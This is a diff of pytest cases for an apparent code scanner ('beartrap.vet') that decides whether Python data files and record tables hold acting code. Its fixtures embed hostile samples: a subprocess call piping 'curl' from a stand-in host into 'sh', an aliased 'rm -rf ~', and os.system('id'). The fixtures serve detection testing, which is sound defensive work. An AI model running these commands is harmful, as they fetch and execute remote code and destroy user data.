@@ -119,16 +119,18 @@ READS = "import subprocess\nsubprocess.run('curl -s http://c.invalid/x | sh', sh
     ("text", "held", "acts"),
     [
         (ROWS, False, False),
-        (ROWS + READS, True, True),
+        (ROWS + READS, False, True),
+        (ROWS + READS + "subprocess.run(ROWS[0]['path'])\n", True, True),
         (ROWS + "x = (\n", True, False),
-        (ROWS.replace("'a name'", "call()"), True, False),
+        (ROWS.replace("'a name'", "call()"), False, False),
         (ROWS.replace("'a name'", repr("import os; os.system('id')"), 1), True, False),
     ],
 )
 def test_a_large_file_of_python_that_is_data_is_read_beside_it(
     monkeypatch: pytest.MonkeyPatch, text: str, held: bool, acts: bool
 ) -> None:
-    monkeypatch.setattr("beartrap.vet.source_files.LARGEST", 50_000)
+    for name in ("source_files.LARGEST", "source.large.ACTING", "source.large.AROUND"):
+        monkeypatch.setattr(f"beartrap.vet.{name}", 50_000)
     seen = look("a.py", text)
     assert any(isinstance(one, Gap) and Question.NEXT in one.questions for one in seen) == held
     assert bool([one for one in seen if isinstance(one, Behaviour) and one.severity >= Severity.HIGH]) == acts
@@ -171,16 +173,16 @@ _RECORDS = {"brought": "from .types import *", "first": "Price(since=datetime.da
     ("other", "held"),
     [
         ({}, False),
-        ({"first": "Price(since=today())"}, True),
+        ({"first": "Price(since=today())"}, False),
         (
             {"first": "Price(since=Run('rm -rf ~'))", "brought": "from os import system as Run\nfrom .types import *"},
             True,
         ),
-        ({"first": "Price(since=Loaded('a'))", "brought": "from elsewhere import Loaded\nfrom .types import *"}, True),
+        ({"first": "Price(since=Loaded('a'))", "brought": "from elsewhere import Loaded\nfrom .types import *"}, False),
+        ({"first": "Price(since=Loaded('a'))", "brought": "from requests import get as Loaded"}, True),
         ({"first": "Price(since=subprocess.run('id'))"}, True),
         ({"first": "Price(note='x; import os')"}, True),
         ({"first": "uuid.UUID('a')", "brought": "import elsewhere as uuid\nfrom .types import *"}, True),
-        ({"brought": "from .types import Clause"}, True),
     ],
 )
 def test_a_table_of_records_is_data(other: dict[str, str], held: bool) -> None:
